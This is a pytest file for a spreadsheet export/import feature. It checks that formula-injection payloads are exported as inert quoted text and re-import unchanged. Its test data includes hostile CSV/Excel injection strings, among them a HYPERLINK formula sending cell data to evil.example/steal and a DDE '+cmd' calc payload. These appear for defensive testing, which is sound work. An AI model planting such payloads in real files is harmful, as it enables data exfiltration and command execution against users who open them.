"""Formula injection: exported text cells are text (never live formulas) and an unchanged export re-imports unchanged."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import openpyxl
import pytest

from jtwg.excel import actions_sheet
from jtwg.excel.importer import apply_import, preview_import
from jtwg.formulas import neutralise, restore
from jtwg.models import ActionItemUpdate
from jtwg.services import audit
from jtwg.services.actions import update_action_item
from jtwg.store.actions import action_id_by_code, get_action_item

TODAY = date(2022, 6, 15)
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
           "'=already quoted", "''", "'plain", "plain = fine"]


@pytest.mark.parametrize("text", HOSTILE + ["", "\tleading tab", "\rcarriage", "'", "x"])
def test_neutralise_then_restore_gives_the_text_back(text):
    out = neutralise(text)
    assert not out.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert restore(out) == text


def _first_code(conn, group, actor):
    return actions_sheet.ActionsAdapter(group.id, TODAY).records(conn, actor=actor)[0]["code"]


@pytest.mark.parametrize("lang", ["en", "fr"])
def test_hyperlink_evidence_is_exported_as_text_and_reimports_unchanged(demo_conn, group, actor, lang):
    code = _first_code(demo_conn, group, actor)
    action_id = action_id_by_code(demo_conn, code=code)
    evidence = '=HYPERLINK("http://evil.example/steal?d="&A1,"Report")'
    update_action_item(demo_conn, action_id=action_id, expected_version=get_action_item(demo_conn, action_id=action_id).version,
                       data=ActionItemUpdate(evidence=evidence, evidence_link="@SUM(1+1)"), actor=actor, today=TODAY)
    data = actions_sheet.export_actions(demo_conn, group_id=group.id, actor=actor, lang=lang, today=TODAY)

    # No formula anywhere in the file: every cell of the sheet XML is a string or a number.
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert len(cells) == 1 and cells[0].data_type == "s" and cells[0].value == "'" + evidence

    adapter = actions_sheet.ActionsAdapter(group.id, TODAY)
    preview = preview_import(demo_conn, adapter, data)
    assert preview.ok and preview.counts()["changed"] == 0 and preview.counts()["new"] == 0
    apply_import(demo_conn, adapter, data, actor)
    item = get_action_item(demo_conn, action_id=action_id)
    assert item.evidence == evidence and item.evidence_link == "@SUM(1+1)"


def test_a_typed_leading_quote_survives_the_round_trip(demo_conn, group, actor):
    code = _first_code(demo_conn, group, actor)
    action_id = action_id_by_code(demo_conn, code=code)
    update_action_item(demo_conn, action_id=action_id, expected_version=get_action_item(demo_conn, action_id=action_id).version,
                       data=ActionItemUpdate(evidence="'=not a formula"), actor=actor, today=TODAY)
    data = actions_sheet.export_actions(demo_conn, group_id=group.id, actor=actor, lang="en", today=TODAY)
    preview = preview_import(demo_conn, actions_sheet.ActionsAdapter(group.id, TODAY), data)
    assert preview.ok and preview.counts()["changed"] == 0


def test_audit_csv_never_starts_a_cell_with_a_formula(demo_conn, group, actor):
    code = _first_code(demo_conn, group, actor)
    action_id = action_id_by_code(demo_conn, code=code)
    update_action_item(demo_conn, action_id=action_id, expected_version=get_action_item(demo_conn, action_id=action_id).version,
                       data=ActionItemUpdate(evidence="x", note="=HYPERLINK(\"http://evil.example\")"), actor=actor, today=TODAY)
    entries, _ = audit.search(demo_conn, actor=actor, where=audit.AuditFilter())
    rows = list(csv.reader(io.StringIO(audit.to_csv(entries).decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'=HYPERLINK(\"http://evil.example\")" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
